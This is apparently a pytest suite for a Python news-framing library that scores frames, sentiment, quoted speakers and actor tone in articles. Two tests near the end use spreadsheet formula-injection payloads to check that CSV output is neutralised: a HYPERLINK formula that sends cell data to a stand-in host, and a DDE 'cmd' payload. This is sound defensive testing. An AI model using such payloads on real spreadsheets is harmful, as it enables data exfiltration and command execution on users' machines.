"""The whole pipeline on the seed article: the project's acceptance claims."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

import framelens as fl


def test_seed_frames_cooperation_and_economy_above_security(seed_analysis):
    rates = seed_analysis.frames.set_index("frame")["rate_per_1k"]
    assert rates["cooperation"] > rates["security"]
    assert rates["economy"] > rates["security"]
    assert seed_analysis.dominant.loc[0, "top_frame"] == "cooperation"


def test_seed_sentiment_is_positive_overall(seed_analysis):
    row = seed_analysis.sentiment.iloc[0]
    assert row["label"] == "positive"
    assert row["polarity"] > 0.05
    assert row["vader_compound"] > 0


def test_seed_quoted_speakers_include_the_named_sources(seed_analysis):
    speakers = set(seed_analysis.voices["speaker"])
    assert {"Xi Jinping", "Wang Peng", "Liu Qingfeng", "Yu Yingtao"} <= speakers


def test_captions_are_set_aside_not_scored(seed_analysis):
    captions = seed_analysis.sentences[seed_analysis.sentences["kind"] == "caption"]
    assert len(captions) == 6  # three captions, each a sentence plus its "Photo: VCG" credit
    assert not seed_analysis.matches["sentence_id"].isin(captions["sentence_id"]).any()
    assert "vcg" not in set(seed_analysis.terms["term"])


def test_scores_has_one_row_per_article_with_every_frame(seed_analysis):
    scores = seed_analysis.scores()
    assert len(scores) == 1
    frame_cols = [c for c in scores.columns if c.startswith("frame_")]
    assert frame_cols == [f"frame_{f}" for f in seed_analysis.codebook.frame_ids]
    assert scores.loc[0, "n_words"] == seed_analysis.sentences.query(
        "kind in @fl.ANALYSED_KINDS")["n_words"].sum()
    assert scores.loc[0, "codebook"] == f"ai {seed_analysis.codebook.version}"


def test_analysis_is_reproducible(seed_articles, seed_analysis):
    again = fl.analyze(seed_articles, codebook="ai")
    pd.testing.assert_frame_equal(again.scores(), seed_analysis.scores())
    pd.testing.assert_frame_equal(again.matches, seed_analysis.matches)


def test_to_csv_writes_every_table(tmp_path, seed_analysis):
    paths = seed_analysis.to_csv(tmp_path / "out")
    assert {p.name for p in paths} == {"scores.csv", "sentences.csv", "frames.csv",
                                       "matches.csv", "quotes.csv", "voices.csv", "terms.csv",
                                       "bigrams.csv", "actors.csv", "mentions.csv"}
    frames = pd.read_csv(tmp_path / "out" / "frames.csv")
    assert len(frames) == len(seed_analysis.codebook.frame_ids)


def test_the_seed_articles_actors_are_found_and_get_a_tone(seed_analysis):
    tone = seed_analysis.actor_tone.set_index("label")
    # The seed article names Xi Jinping four times: "Chinese President Xi Jinping" once,
    # then "Xi"; no actor list is needed to resolve the short name.
    assert tone.loc["Xi Jinping", "mentions"] == 4
    shares = tone[["share_negative", "share_neutral", "share_positive"]].sum(axis=1)
    assert shares.to_numpy() == pytest.approx(1.0)
    assert (tone["net_tone"] == tone["share_positive"] - tone["share_negative"]).all()
    assert len(seed_analysis.mentions) == tone["mentions"].sum()


def test_an_actor_list_groups_names_and_lists_the_unmatched(seed_path):
    result = fl.analyze(fl.read_articles(seed_path), codebook="ai", actors="china-tech")
    tone = result.actor_tone.set_index("actor")
    assert tone.loc["xi_jinping", "mentions"] == 4
    assert "huawei" in set(result.unmatched_actors["actor"])
    assert "xi_jinping" not in set(result.unmatched_actors["actor"])


def test_several_articles_are_analysed_independently(tmp_path, seed_path):
    other = tmp_path / "other.txt"
    other.write_text("---\ntitle: Tariffs hit exporters\noutlet: Wire\n---\n"
                     "Officials warned that new tariffs threaten jobs and security. "
                     "Exporters said costs would rise sharply.\n")
    arts = pd.concat([fl.read_article(seed_path), fl.read_article(other)], ignore_index=True)
    result = fl.analyze(arts, codebook="ai")
    scores = result.scores().set_index("outlet")
    assert scores.loc["Wire", "n_sentences"] == 3
    assert scores.loc["Global Times", "top_frame"] == "cooperation"
    single = fl.analyze(arts.iloc[[0]], codebook="ai").scores()
    assert scores.loc["Global Times", "polarity"] == single.loc[0, "polarity"]


def _tone_corpus() -> pd.DataFrame:
    harsh = ["Huawei was accused of spying and stealing secrets, and critics condemned the "
             "company for lying to regulators.",
             "Prosecutors charged Huawei with fraud after a damning investigation."]
    warm = ["Huawei was praised for its brilliant engineers and won an award for its "
            "excellent phones.",
            "Customers celebrated Huawei's generous support for local schools."]
    rows = []
    for outlet, sentences in (("Harsh Daily", harsh), ("Warm Times", warm)):
        for k in range(4):
            text = (f"{sentences[k % 2]} The story was reported on day {k + 1}. "
                    "Analysts expect more news about the industry next week.")
            rows.append({"article_id": f"{outlet[:4]}-{k}", "title": f"Report {k} of {outlet}",
                         "outlet": outlet, "text": text})
    return pd.DataFrame(rows)


def test_compare_corpus_finds_the_outlet_that_treats_an_actor_worse():
    articles = _tone_corpus()
    comparison = fl.compare_corpus(articles, by="outlet", actors="china-tech", min_articles=3,
                                   n_boot=200, drop_duplicates=False)
    huawei = comparison.actor_tone.set_index(["actor", "group"]).loc["huawei"]
    assert huawei.loc["Harsh Daily", "mean_net_tone"] < 0 < huawei.loc["Warm Times",
                                                                        "mean_net_tone"]
    assert huawei["n_articles"].tolist() == [4, 4]
    pair = comparison.actor_pairwise.set_index("actor").loc["huawei"]
    assert pair["diff"] != 0
    assert "xi_jinping" in set(comparison.actor_unmatched["actor"])


def test_compare_corpus_refuses_scores_without_the_actor_list(tmp_path):
    scored = fl.score_corpus(_tone_corpus(), codebook="ai")
    scored.to_parquet(tmp_path / "scores.parquet")
    with pytest.raises(fl.OptionError, match="hold no tone toward actors"):
        fl.compare_corpus(tmp_path / "scores.parquet", by="outlet", actors="china-tech",
                          min_articles=3)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_every_csv_of_an_article_report_neutralises_formulas(tmp_path, seed_articles):
    articles = seed_articles.assign(title=EVIL, outlet="@SUM(A1:A9)")
    paths = fl.analyze(articles, codebook="ai").to_csv(tmp_path)
    cells = {p.name: pd.read_csv(p, dtype=str, keep_default_na=False) for p in paths}
    for name, table in cells.items():
        for column in table.columns:
            assert not table[column].str.startswith(("=", "+", "@")).any(), (name, column)
    scores = cells["scores.csv"].iloc[0]
    assert scores["title"] == "'" + EVIL and scores["outlet"] == "'@SUM(A1:A9)"
    assert (cells["sentences.csv"]["text"] == "'" + EVIL).any()  # the headline, sentence 0


def test_every_csv_of_a_comparison_neutralises_formulas(tmp_path, small_corpus):
    evil = "=cmd|'/C calc'!A0"
    corpus = small_corpus.assign(source=small_corpus["source"].replace("Alpha", evil))
    comparison = fl.compare_corpus(fl.read_articles(corpus, text="body", outlet="source"),
                                   by="source", n_boot=20)
    paths = [p for p in comparison.to_csv(tmp_path) if p.suffix == ".csv"]
    for path in paths:
        table = pd.read_csv(path, dtype=str, keep_default_na=False)
        for column in table.columns:
            assert not table[column].str.startswith(("=", "+", "@")).any(), (path.name, column)
    prevalence = pd.read_csv(tmp_path / "prevalence.csv", dtype=str)
    assert "'" + evil in set(prevalence["group"])


def test_compare_corpus_with_learned_frames_shows_raw_and_corrected_shares(learned_frames):
    from conftest import ECONOMIC, OTHER

    rows = []
    for i in range(12):
        money = i < 9 if i % 2 == 0 else i < 3  # outlet A writes about money far more
        outlet = "A" if i % 2 == 0 else "B"
        for j in range(2):
            text = " ".join((ECONOMIC if money else OTHER)[j:j + 4])
            rows.append({"article_id": f"{outlet}{i}-{j}", "outlet": outlet,
                         "title": f"Story {i} {j}", "text": f"Report {i} {j}. {text}"})
    articles = pd.DataFrame(rows)
    comparison = fl.compare_corpus(articles, by="outlet", codebook="generic",
                                   frames=learned_frames, min_articles=3, n_boot=200,
                                   drop_duplicates=False)
    assert comparison.frames_model is not None
    rates = comparison.error_rates.set_index("frame")
    assert set(rates.index) == {"conflict", "economic"}  # the frames the model learned
    assert rates.loc["economic", "source"].startswith("learned frames, cross-validated on 40")
    corrected = comparison.corrected.set_index(["group", "frame"])
    a, b = corrected.loc[("A", "economic")], corrected.loc[("B", "economic")]
    assert a.raw_share > b.raw_share and a.corrected_share > b.corrected_share
    assert comparison.scores["prob_economic"].notna().all()
    assert any(s.startswith("Corrected for the frame measure's error") for s in
               comparison.summary)
    assert "corrected.csv" in {p.name for p in comparison.to_csv(
        Path(comparison.frames_model.path).parent / "tables")}
